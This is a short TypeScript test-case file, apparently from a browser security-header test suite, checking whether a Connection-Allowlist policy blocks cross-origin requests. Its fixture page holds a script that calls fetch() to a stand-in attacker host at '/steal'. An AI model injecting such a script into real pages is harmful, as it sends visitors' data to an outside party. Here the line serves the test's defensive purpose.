import type { Case } from '../case.js'

/** Connections to anywhere. */
export const CONNECTIONS: readonly Case[] = [
  {
    name: 'any connection to another origin',
    header: 'Connection-Allowlist',
    option: 'connectionAllowlist',
    framework: 'hono',
    policy: { connectionAllowlist: true },
    site: (at) => ({ '/': `<script>fetch('${at.attacker}/steal', { mode: 'no-cors' }).catch(() => {})</script>` }),
    attacked: ({ received }) => received.attacker.some(({ path }) => path === '/steal'),
    except: {
      firefox: { verdict: 'ignored', reason: 'not implemented' },
      webkit: { verdict: 'ignored', reason: 'not implemented' },
    },
  },
]
